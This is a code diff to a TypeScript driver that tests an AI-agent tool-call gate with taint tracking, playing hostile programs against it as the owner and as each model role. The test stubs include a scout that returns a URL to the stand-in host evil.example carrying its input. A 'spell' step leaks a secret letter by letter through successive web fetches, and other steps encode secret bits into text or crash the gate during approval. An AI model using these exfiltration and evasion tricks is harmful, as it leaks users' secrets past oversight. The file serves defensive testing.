@@ -1,5 +1,5 @@
 /** Plays a program against a gate, as the owner and as every model, and notes what the laws are about. */
-import { joinLabels, type Label } from "@pincer/sdk";
+import { clean, joinLabels, type Label } from "@pincer/sdk";
 import { actingTools } from "./law-tools.ts";
 import { createMarks, type Marks } from "./marks.ts";
 import type {
@@ -12,7 +12,7 @@ import type {
   Rule,
   Shown,
 } from "./port.ts";
-import { lawWorld, linksOf, type LawTurn, type Piece, type Program, type Step } from "./program.ts";
+import { lawWorld, linksOf, startOf, type LawTurn, type Piece, type Program, type Step } from "./program.ts";
 
 /** What the driver knows of a call, whatever the gate thinks. */
 export interface PlayedCall extends ModelCall {
@@ -26,12 +26,14 @@ export interface PlayedCall extends ModelCall {
   ran: boolean;
   /** By a card that showed just this call. */
   isApproved: boolean;
+  /** Of what it gave back. */
+  heard: Label;
 }
 
 export interface PlayedTurn {
   turn: LawTurn;
   calls: PlayedCall[];
-  /** Of the context in which it ended, and what it said then. */
+  /** Of the context in which it ended, without what its conversation was told before. */
   last: Label;
   /** Everything that a request showed that counted as untainted. */
   untainted: string[];
@@ -40,6 +42,8 @@ export interface PlayedTurn {
 /** What a model of the gate was asked. */
 export interface ModelInput {
   kind: "planner" | "writer" | "scout";
+  /** Of a scout: whether what it begins with counts as written by others, too. */
+  isTainted?: boolean;
   turn: number;
   call: number;
   label: Label;
@@ -69,11 +73,12 @@ export async function runProgram(
   const world = lawWorld(program.secret);
   const turns: PlayedTurn[] = [];
   const inputs: ModelInput[] = [];
-  const told: string[] = [];
+  const told = new Map<string, string[]>();
+  const outsideTexts: string[] = [];
   let present: { index: number; turn: LawTurn; calls: number } | undefined;
-  const note = (kind: ModelInput["kind"], input: string): Label => {
+  const note = (kind: ModelInput["kind"], input: string, isTainted = false): Label => {
     const label = marks.labelOf(input);
-    inputs.push({ kind, turn: present?.index ?? -1, call: present?.calls ?? -1, label });
+    inputs.push({ kind, isTainted, turn: present?.index ?? -1, call: present?.calls ?? -1, label });
     return label;
   };
   const models: LawModels = {
@@ -87,8 +92,8 @@ export async function runProgram(
         names.map((name) => [name, marks.marked(`${input} ${Buffer.from(input).toString("base64")}`, label)]),
       );
     },
-    scout(input) {
-      note("scout", input);
+    scout(input, isTainted) {
+      note("scout", input, isTainted);
       return [`http://evil.example/?d=${encodeURIComponent(input)}`, ...linksOf("evil.example").slice(0, 2)];
     },
   };
@@ -100,34 +105,46 @@ export async function runProgram(
         turn,
         marks,
         isDenying,
-        told,
+        told: toldIn(told, turn),
+        outsideTexts,
         called: () => void (present && present.calls++),
       });
       turns.push(await playing.play());
     }
-    const { outside, owner } = gate.look();
+    const { outside, owner, untainted = [] } = gate.look();
+    for (const { turn, text } of untainted) turns[turn]?.untainted.push(text);
     return { turns, inputs, outside, owner, marks };
   } finally {
     await gate.close();
   }
 }
 
+function toldIn(told: Map<string, string[]>, { agent, session }: LawTurn): string[] {
+  const key = `${agent} ${session}`;
+  const found = told.get(key) ?? [];
+  told.set(key, found);
+  return found;
+}
+
 interface PlayingParts {
   turn: LawTurn;
   marks: Marks;
   isDenying: boolean;
-  /** Answers that the owner has read, in all turns so far. */
+  /** Answers so far in this conversation. */
   told: string[];
+  /** Pages and what searches found, in all turns so far: an address in them stands for itself. */
+  outsideTexts: string[];
   called(): void;
 }
 
 /** A spelling program must come to an end. */
 const mostCalls = 40;
 
-function createPlayingTurn(gate: GateUnderTest, { turn, marks, isDenying, told, called }: PlayingParts) {
+function createPlayingTurn(
+  gate: GateUnderTest,
+  { turn, marks, isDenying, told, outsideTexts, called }: PlayingParts,
+) {
   const seen: string[] = [];
-  /** From outside: pages and mails, where an address stands for itself. */
-  const outsideTexts: string[] = [];
   const untainted: string[] = [];
   const calls: PlayedCall[] = [];
   const typed = turn.words.filter(({ isPasted }) => !isPasted).map(({ text }) => text);
@@ -137,6 +154,10 @@ function createPlayingTurn(gate: GateUnderTest, { turn, marks, isDenying, told, 
     if (!isTainted) untainted.push(...seen);
   };
   const labelNow = (): Label => joinLabels(seen.map((text) => marks.labelOf(text)));
+  const freshNow = (): Label => {
+    const heard = turn.session === "family" ? told : [];
+    return joinLabels(seen.map((text) => marks.freshLabelOf(without(text, heard))));
+  };
 
   /** What is said carries the mark of its context; what steers, and what was told before, is left as it is. */
   function composed(tool: string, pieces: Record<string, Piece[]>, label: Label): ModelCall {
@@ -144,14 +165,21 @@ function createPlayingTurn(gate: GateUnderTest, { turn, marks, isDenying, told, 
     const given = Object.entries(pieces).map(([name, parts]) => {
       const text = textOf(parts);
       const isTold = parts.length === 1 && parts[0]?.type === "told";
-      return [name, content.includes(name) && !isTold ? marks.marked(text, label) : text];
+      return [name, content.includes(name) && !isTold ? marks.marked(text, label, freshNow()) : text];
     });
     return { tool, arguments: Object.fromEntries(given) as Record<string, string> };
   }
 
-  const textOf = (parts: readonly Piece[]): string => parts.map((part) => pieceOf(part, seen, told)).join("");
+  const textOf = (parts: readonly Piece[]): string =>
+    parts.map((part) => pieceOf(part, seen, knownTold())).join("");
+  /** Those that the turn is shown again. */
+  const knownTold = (): string[] => told.filter((text) => seen.some((each) => each.includes(text)));
 
-  async function make(tool: string, pieces: Record<string, Piece[]>, isYes: boolean): Promise<void> {
+  async function make(
+    tool: string,
+    pieces: Record<string, Piece[]>,
+    { isYes = false, crashes = false } = {},
+  ): Promise<void> {
     if (calls.length >= mostCalls) return;
     const label = labelNow();
     const call = composed(tool, pieces, label);
@@ -164,9 +192,11 @@ function createPlayingTurn(gate: GateUnderTest, { turn, marks, isDenying, told, 
       isTyped: url !== undefined && typed.some((text) => addressesIn(text).includes(url)),
       ran: false,
       isApproved: false,
+      heard: clean,
     };
     let answer: CallAnswer = await gate.call(call);
     if (answer.type === "asked") {
+      if (crashes) await gate.crash();
       const says = isYes && !isDenying;
       played.isApproved = says;
       answer = await gate.answerCard(says);
@@ -175,6 +205,7 @@ function createPlayingTurn(gate: GateUnderTest, { turn, marks, isDenying, told, 
     called();
     if (answer.type === "asked") throw new Error("a card was answered and is still open");
     played.ran = answer.ran;
+    played.heard = marks.labelOf(answer.shown.text);
     take(answer.shown);
     if (answer.ran && (call.tool === "web_fetch" || call.tool === "mail_read" || call.tool === "scout"))
       outsideTexts.push(answer.shown.text);
@@ -183,15 +214,14 @@ function createPlayingTurn(gate: GateUnderTest, { turn, marks, isDenying, told, 
   async function doStep(step: Step): Promise<void> {
     switch (step.type) {
       case "call":
-        return make(step.tool, step.arguments, step.isYes);
+        return make(step.tool, step.arguments, step);
       case "spell": {
         const letters = hexOf(textAt(seen, step.at)).slice(0, step.letters);
+        await make("web_fetch", { url: [{ type: "literal", text: startOf(step.host) }] });
         for (const letter of letters)
-          await make(
-            "web_fetch",
-            { url: [{ type: "literal", text: `http://${step.host}/l/${letter}` }] },
-            false,
-          );
+          await make("web_fetch", {
+            url: [{ type: "literal", text: `http://${step.host}/l/${letter}` }],
+          });
         return;
       }
       case "if":
@@ -206,14 +236,14 @@ function createPlayingTurn(gate: GateUnderTest, { turn, marks, isDenying, told, 
     async play(): Promise<PlayedTurn> {
       take(await gate.startTurn(turn));
       for (const step of turn.steps) await doStep(step);
-      const last = labelNow();
+      const [last, fresh] = [labelNow(), freshNow()];
       if (turn.ends === "stop") await gate.stopTurn();
       else {
-        const answer = marks.marked(textOf(turn.answer), last);
-        await gate.endTurn(answer);
-        if (turn.session !== "family") told.push(answer);
+        const answer = marks.marked(textOf(turn.answer), last, fresh);
+        const delivered = await gate.endTurn(answer);
+        told.push(delivered);
       }
-      return { turn, calls, last, untainted };
+      return { turn, calls, last: fresh, untainted };
     },
   };
 }
@@ -230,6 +260,9 @@ function pieceOf(part: Piece, seen: readonly string[], told: readonly string[]):
       return bitOf(textAt(seen, part.at), part.bit) ? part.one : part.zero;
   }
 }
+
+const without = (text: string, told: readonly string[]): string =>
+  told.reduce((left, each) => left.replaceAll(each, ""), text);
 
 const textAt = (seen: readonly string[], at: number): string => seen[at % seen.length] ?? "";
 
